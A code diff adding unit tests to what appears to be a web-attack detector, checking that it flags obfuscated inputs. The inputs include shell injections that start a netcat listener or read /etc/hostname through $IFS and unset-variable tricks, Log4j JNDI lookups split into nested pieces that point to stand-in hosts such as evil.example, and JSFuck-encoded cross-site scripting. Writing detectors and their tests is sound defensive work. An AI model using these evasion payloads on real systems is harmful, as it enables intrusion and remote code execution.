@@ -441,6 +441,38 @@ Test(webstruct, alternatives_names_and_long_options)
     cr_assert_not(shell("open the door", FK_WS_PARAM));
     cr_assert_not(shell("which one -- the red or the blue?", FK_WS_PARAM));
     cr_assert_not(shell("rename photos", FK_WS_PARAM));
+    /* a name split by variables left unset, and one ended by $IFS */
+    cr_assert(shell("x;n$u\\c$u -lvp 4444", FK_WS_PARAM));
+    cr_assert(shell("x;c$x\\at /etc/hostname", FK_WS_PARAM));
+    cr_assert(shell("x;cat$IFS/etc/hostname", FK_WS_PARAM));
+    cr_assert_not(shell("total$amount is due", FK_WS_PARAM));
+}
+
+/* A JNDI lookup Log4j assembles from nested lookups whose values the text gives. */
+Test(webstruct, log4j_lookups_spelt_in_pieces)
+{
+    static const char *const spelt[] = {
+        "${:1337:-x$}{jndi:ldap://evil.example/a}", "${${env:nothing:-j}ndi:ldap://x.example/}",
+        "${${k8s:x:-j}${date:x:-n}di:dns://x.example}", "${${lower:j}${upper:n}di:x}",
+        "a ${${base64:x:-j}ndi:rmi://x.example} b"};
+    for (size_t i = 0; i < sizeof spelt / sizeof spelt[0]; i++)
+        cr_assert(strstr(families_of(spelt[i], FK_WS_PARAM), "code"), "%s: %s", spelt[i],
+                  families_of(spelt[i], FK_WS_PARAM));
+    static const char *const not_jndi[] = {"price ${5} and ${total}", "${x:-y} jndi",
+                                           "${${unknown}ndi:x}", "{jndi:x}"};
+    for (size_t i = 0; i < sizeof not_jndi / sizeof not_jndi[0]; i++)
+        cr_assert(strstr(families_of(not_jndi[i], FK_WS_PARAM), "code") == NULL, "%s", not_jndi[i]);
+}
+
+/* Script in JSFuck's six characters, whole or as a long stretch, '+' decoded or not. */
+Test(webstruct, script_in_six_characters)
+{
+    cr_assert(xss("(![]+[])[+[]]", FK_WS_PARAM));
+    cr_assert(xss("(![] [])[ !![]]", FK_WS_PARAM));
+    cr_assert(xss("\";[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]]();//", FK_WS_PARAM));
+    cr_assert_not(xss("wow!!! (great) [1]", FK_WS_PARAM));
+    cr_assert_not(xss("![]", FK_WS_PARAM));
+    cr_assert_not(xss("a+b (c)", FK_WS_PARAM));
 }
 
 Test(webstruct, file_reads_by_climbing_in_paths_and_headers)
